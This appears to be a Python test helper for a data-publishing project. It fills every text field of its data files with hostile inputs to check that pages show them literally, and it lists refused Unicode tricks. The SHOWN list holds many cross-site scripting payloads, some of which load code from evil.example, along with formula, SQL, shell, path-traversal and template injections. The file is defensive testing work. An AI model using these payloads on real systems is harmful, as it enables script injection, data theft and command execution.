"""What strangers may send: texts that would run, ask or hide something, and how a town is filled with them."""

from __future__ import annotations

import json
import os
import resource
from collections.abc import Callable, Iterator
from pathlib import Path

import yaml

from kentro import fields, positions, schema
from kentro.fields import Kind, ListOf, MapOf, Record, Words, slots_of
from kentro.positions import Mapping, Node, Scalar, Sequence
from kentro.problems import Problems

HIT = "top.hit=self"
"""What runs where a payload does."""

SHOWN = [
    f"<script>{HIT}</script>",
    f"</title><script>{HIT}</script>",
    f"</style><script>{HIT}</script>",
    f"</script><script>{HIT}</script>",
    f"</textarea><script>{HIT}</script>",
    f"--><script>{HIT}</script>",
    f"]]><script>{HIT}</script>",
    f"<!--<script>{HIT}</script>",
    f"<<script>{HIT}</script>",
    f"<ScRiPt>{HIT}</sCrIpT>",
    f"<script/x>{HIT}</script>",
    "<script src=//evil.example/a.js></script>",
    "<script type=module src=https://evil.example/a.js></script>",
    f"<img src=x onerror={HIT}>",
    f'"><img src=x onerror={HIT}>',
    f"'><img src=x onerror={HIT}>",
    f"`><img src=x onerror={HIT}>",
    f'" onfocus={HIT} autofocus x="',
    f"' onfocus={HIT} autofocus x='",
    f"<img src=x onerror={HIT}//",
    "<img src=https://evil.example/a.png>",
    "<img srcset='https://evil.example/a.png'>",
    f"<svg onload={HIT}>",
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x>",
    f"<svg><a xlink:href=javascript:{HIT}><text>x",
    f"<math><mtext><script>{HIT}</script>",
    f"<math><annotation-xml encoding=text/html><img src onerror={HIT}>",
    f"<noscript><p title='</noscript><img src onerror={HIT}>'>",
    f"<template><script>{HIT}</script></template>",
    f"<iframe srcdoc='<script>{HIT}</script>'>",
    "<iframe src=https://evil.example/>",
    f"<iframe src=javascript:{HIT}>",
    "<object data=https://evil.example/>",
    "<embed src=https://evil.example/>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<meta http-equiv=refresh content=',url=https://evil.example/'>",
    "<form action=https://evil.example/><button>x</form>",
    "<input formaction=https://evil.example/ type=submit>",
    "<style>@import 'https://evil.example/a.css'</style>",
    "<p style='background:url(https://evil.example/a)'>",
    "<body background=https://evil.example/a>",
    f"<body onload={HIT}>",
    f"<details open ontoggle={HIT}>",
    f"<video><source onerror={HIT}></video>",
    "<video poster=https://evil.example/a>",
    f"<marquee onstart={HIT}>",
    f"<a href=javascript:{HIT}>x</a>",
    f"<a href='java&Tab;script:{HIT}'>x</a>",
    f"<xmp><img src onerror={HIT}></xmp>",
    f"<plaintext><img src onerror={HIT}>",
    f"[x](javascript:{HIT})",
    "![x](https://evil.example/a.png)",
    f"<javascript:{HIT}>",
    "&lt;script&gt;top.hit=self&lt;/script&gt;",
    "&LT;script>top.hit=self&LT;/script>",
    "+ADw-script+AD-top.hit=self",
    "${top.hit=self}",
    "<%= self %>",
    "#{Self}",
    "=cmd|' /C calc'!A",
    "@SUM(A)",
    "BEGIN:VEVENT",
    "'; DROP TABLE centres; --",
    "$(touch hit) `touch hit`",
    "../../../../etc/passwd",
    "%s %n %x {self.__class__}",
    "::error file=x::y",
    "__proto__ constructor toString",
    "{{ self.__init__.__globals__ }}",
    "{% include 'x' %}",
    "x }} y",
]
"""Texts that are texts: every page shows them letter by letter. No digits, which a text may not have."""

REFUSED = [
    "α\u202eβ",
    "α\u2066β",
    "α\u200bβ",
    "α\u00adβ",
    "α\ufeffβ",
    "α\u2060β",
    "α\u3164β",
    "α\u115fβ",
    "α\u2800β",
    "α\u034fβ",
    "α\ufe00β",
    "α\U000e0041β",
    "α\u0007β",
    "α\u0085β",
    "α\u2028β",
    "α\ue000β",
    "α\u001b[mβ",
    "Κέντρo",
    "pаypal",
    "TODO",
]
"""Texts that no file of the data may hold."""

TEXTS = (fields.PLAIN, fields.NAME)
NAMES = {("Figure", "part_of"), ("Row", "cells")}
"""Fields whose text names a line or a value of the same record: another text is refused as unknown."""


def is_text(kind: Kind[object]) -> bool:
    return isinstance(kind, Words) or kind in TEXTS


def declared(cls: type[object], seen: set[type[object]] | None = None) -> Iterator[tuple[str, str]]:
    """Every text field of a record and of those inside it, as the model declares them."""
    seen = set() if seen is None else seen
    if cls in seen:
        return
    seen.add(cls)
    for key, slot in slots_of(cls).items():
        kind = slot.kind
        while isinstance(kind, MapOf | ListOf):
            kind = kind.item
        if is_text(kind) and (cls.__name__, key) not in NAMES:
            yield cls.__name__, key
        if isinstance(kind, Record):
            yield from declared(kind.cls, seen)


def texts(
    kind: Kind[object], node: Node, field: tuple[str, str] = ("", "")
) -> Iterator[tuple[tuple[str, str], Scalar]]:
    """Every text below a node, with the field that declares it."""
    if fields.is_unknown(node):
        return
    if isinstance(kind, Record):
        slots = slots_of(kind.cls)
        for key, child in node.entries if isinstance(node, Mapping) else ():
            yield from texts(slots[key.text].kind, child, (kind.cls.__name__, key.text))
    elif isinstance(kind, MapOf) and isinstance(node, Mapping):
        for _, child in node.entries:
            yield from texts(kind.item, child, field)
    elif isinstance(kind, ListOf) and isinstance(node, Sequence):
        for item in node.items:
            yield from texts(kind.item, item, field)
    elif isinstance(node, Scalar) and is_text(kind) and field not in NAMES:
        yield field, node


def fill(root: Path, more: str) -> set[tuple[str, str]]:
    """Add a text to every text of a town and of the national data; the fields that were filled."""
    filled = set()
    for glob, cls in schema.FILES.values():
        for path in sorted(root.glob(glob)):
            text = path.read_bytes().decode()
            node = positions.read(text.encode(), path.name, Problems())
            assert node is not None
            spans = {
                (start.line + 1, start.column + 1): (start.index, end.index)
                for event in yaml.parse(text, Loader=yaml.SafeLoader)
                if isinstance(event, yaml.ScalarEvent) and (start := event.start_mark) and (end := event.end_mark)
            }
            for field, value in reversed(list(texts(Record(cls), node))):
                first, last = spans[value.mark.line, value.mark.column]
                said = json.dumps(f"{' '.join(value.text.split())} {more}", ensure_ascii=False)
                text = text[:first] + said + ("\n" if text[first:last].endswith("\n") else "") + text[last:]
                filled.add(field)
            path.write_bytes(text.encode())
    return filled


def limited(work: Callable[[], object]) -> str:
    """What becomes of some work within 2 seconds of the processor and 300 MB more than now: `done`, or why not."""
    child = os.fork()
    if not child:
        with open("/proc/self/statm", encoding="ascii") as statm:
            now = int(statm.read().split()[0]) * resource.getpagesize()
        spent = resource.getrusage(resource.RUSAGE_SELF)
        seconds = int(spent.ru_utime + spent.ru_stime) + 3
        resource.setrlimit(resource.RLIMIT_AS, (now + 300_000_000, now + 300_000_000))
        resource.setrlimit(resource.RLIMIT_CPU, (seconds, seconds))
        try:
            work()
        except MemoryError:
            os._exit(2)
        except BaseException:
            os._exit(1)
        os._exit(0)
    _, status, used = os.wait4(child, 0)
    if used.ru_utime + used.ru_stime > 2:
        return "too slow"
    return {0: "done", 1: "raised", 2: "too large"}.get(os.waitstatus_to_exitcode(status), "killed")
